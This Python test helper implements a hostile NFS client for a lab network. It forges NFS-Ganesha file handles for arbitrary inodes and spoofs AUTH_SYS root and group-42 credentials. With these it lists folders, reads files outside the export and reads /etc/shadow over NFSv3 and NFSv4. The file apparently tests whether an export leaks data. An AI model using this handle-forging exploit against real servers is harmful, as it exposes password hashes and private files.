"""A hostile NFS client for the tests: forges file handles as a terminal on the lab network
could, over NFSv3 (MOUNT, then GETATTR, READDIR, READ) and NFSv4.0 (PUTFH, LOOKUP), with
AUTH_SYS credentials that claim what it likes. ONC RPC over TCP, XDR by hand (RFC 5531,
1813, 7530); only what the tests ask.

Run inside the lab host's network namespace: `python tests/nfsforge.py SERVER NFS_PORT
MOUNT_PORT EXPORT FOLDER_INODE FOLDER_GEN FILE_INODE FILE_GEN SHADOW_INODE SHADOW_GEN SECRET`
prints one JSON object: what handles forged for those inodes of the filesystem the export
lies on get: the names READDIR lists of the folder, whether READ of the file returns SECRET,
how much of /etc/shadow READ returns to a client claiming group 42, and NFSv4's answer to
PUTFH of the forged folder and LOOKUP of its `host-secret`."""

from __future__ import annotations

import json
import os
import socket
import struct
import sys

MOUNT_PROG, NFS_PROG = 100005, 100003
NFS3_OK = 0


class Xdr:
    def __init__(self, data: bytes = b"") -> None:
        self.data, self.pos = data, 0

    def u32(self) -> int:
        value, = struct.unpack_from(">I", self.data, self.pos)
        self.pos += 4
        return int(value)

    def u64(self) -> int:
        value, = struct.unpack_from(">Q", self.data, self.pos)
        self.pos += 8
        return int(value)

    def opaque(self, size: int | None = None) -> bytes:
        size = self.u32() if size is None else size
        value = self.data[self.pos:self.pos + size]
        self.pos += size + (-size % 4)
        return value

    def skip_post_op_attr(self) -> None:
        if self.u32():
            self.pos += 84  # fattr3


def u32(value: int) -> bytes:
    return struct.pack(">I", value)


def u64(value: int) -> bytes:
    return struct.pack(">Q", value)


def opaque(data: bytes) -> bytes:
    return u32(len(data)) + data + b"\0" * (-len(data) % 4)


def auth_sys(uid: int, gid: int, gids: list[int]) -> bytes:
    body = u32(0) + opaque(b"forger") + u32(uid) + u32(gid) + u32(len(gids))
    body += b"".join(u32(g) for g in gids)
    return u32(1) + opaque(body)


class Rpc:
    def __init__(self, server: str, port: int, cred: bytes) -> None:
        self.sock = socket.create_connection((server, port), timeout=10)
        self.cred, self.xid = cred, 0x5EED0000

    def call(self, prog: int, vers: int, proc: int, args: bytes) -> Xdr:
        self.xid += 1
        msg = (u32(self.xid) + u32(0) + u32(2) + u32(prog) + u32(vers) + u32(proc) + self.cred
               + u32(0) + u32(0) + args)
        self.sock.sendall(u32(0x80000000 | len(msg)) + msg)
        reply = b""
        while True:
            header, = struct.unpack(">I", self._read(4))
            reply += self._read(header & 0x7FFFFFFF)
            if header & 0x80000000:
                break
        x = Xdr(reply)
        if x.u32() != self.xid or x.u32() != 1 or x.u32() != 0:
            raise RuntimeError("RPC call denied")
        x.u32()  # verifier flavor
        x.opaque()
        if (accepted := x.u32()) != 0:
            raise RuntimeError(f"RPC accept_stat {accepted}")
        return x

    def _read(self, size: int) -> bytes:
        data = b""
        while len(data) < size:
            chunk = self.sock.recv(size - len(data))
            if not chunk:
                raise RuntimeError("connection closed")
            data += chunk
        return data


def forge(fh: bytes, inode: int, generation: int) -> bytes:
    """The export's handle (ganesha's VFS handle: version 0x43, flags, export id u16, length
    u8, the filesystem id, then the kernel's ext4 handle, type 1: inode and generation,
    little-endian, last; NFSv3 pads the whole to an even length) with that kernel handle
    replaced."""
    end = 5 + fh[4]  # the header's 5 bytes, then fh[4] bytes of the filesystem's handle
    return fh[:end - 8] + struct.pack("<II", inode, generation) + fh[end:]


def readdir(rpc: Rpc, fh: bytes) -> tuple[int, list[str]]:
    x = rpc.call(NFS_PROG, 3, 16, opaque(fh) + u64(0) + b"\0" * 8 + u32(8192))
    status = x.u32()
    if status != NFS3_OK:
        return status, []
    x.skip_post_op_attr()
    x.opaque(8)
    names = []
    while x.u32():
        x.u64()
        names.append(x.opaque().decode(errors="replace"))
        x.u64()
    return status, names


def read(rpc: Rpc, fh: bytes) -> tuple[int, bytes]:
    x = rpc.call(NFS_PROG, 3, 6, opaque(fh) + u64(0) + u32(4096))
    status = x.u32()
    if status != NFS3_OK:
        return status, b""
    x.skip_post_op_attr()
    x.u32()  # count
    x.u32()  # eof
    return status, x.opaque()


def v4(rpc: Rpc, ops: list[bytes]) -> tuple[int, Xdr]:
    """COMPOUND (NFSv4.0, no session needed for these operations): its status, its reply."""
    x = rpc.call(NFS_PROG, 4, 1, opaque(b"forge") + u32(0) + u32(len(ops)) + b"".join(ops))
    return x.u32(), x


def v4_export_fh(rpc: Rpc, export: str) -> bytes:
    """PUTROOTFH, LOOKUP of each part of the export's pseudo path, GETFH."""
    parts = [p for p in export.split("/") if p]
    status, x = v4(rpc, [u32(24), *(u32(15) + opaque(p.encode()) for p in parts), u32(10)])
    if status != 0:
        raise RuntimeError(f"NFSv4 GETFH of {export}: {status}")
    x.opaque()  # tag
    x.u32()  # results
    for _ in range(1 + len(parts)):
        x.u32()
        x.u32()
    x.u32()
    x.u32()
    return x.opaque()


def v4_lookup(rpc: Rpc, fh: bytes, name: str) -> int:
    """PUTFH of fh, LOOKUP name: the compound's status."""
    return v4(rpc, [u32(22) + opaque(fh), u32(15) + opaque(name.encode())])[0]


def main(argv: list[str]) -> int:
    server, nfs_port, mount_port, export = argv[0], int(argv[1]), int(argv[2]), argv[3]
    folder_ino, folder_gen, file_ino, file_gen = (int(a) for a in argv[4:8])
    shadow_ino, shadow_gen, secret = int(argv[8]), int(argv[9]), argv[10]
    cred = auth_sys(0, 0, [])
    x = Rpc(server, mount_port, cred).call(MOUNT_PROG, 3, 1, opaque(export.encode()))
    if (status := x.u32()) != 0:
        print(json.dumps({"mount": status}))
        return 1
    fh = x.opaque()
    rpc = Rpc(server, nfs_port, cred)
    folder_status, folder_names = readdir(rpc, forge(fh, folder_ino, folder_gen))
    file_status, file_data = read(rpc, forge(fh, file_ino, file_gen))
    # a client says which groups it is in: shadow's, to read /etc/shadow (not root: squashed)
    shadow_status, shadow_data = read(Rpc(server, nfs_port, auth_sys(1000, 42, [42])),
                                      forge(fh, shadow_ino, shadow_gen))
    four = Rpc(server, nfs_port, cred)
    fh4 = v4_export_fh(four, export)
    print(json.dumps({
        "export_names": readdir(rpc, fh)[1],
        "folder": {"status": folder_status, "names": folder_names},
        "file": {"status": file_status, "secret": secret in file_data.decode(errors="replace")},
        "shadow": {"status": shadow_status, "bytes": len(shadow_data)},
        "v4": {"export": v4_lookup(four, fh4, "etc"),
               "folder": v4_lookup(four, forge(fh4, folder_ino, folder_gen), "host-secret")},
    }))
    return 0


if __name__ == "__main__":
    os.environ.setdefault("PYTHONDONTWRITEBYTECODE", "1")
    sys.exit(main(sys.argv[1:]))
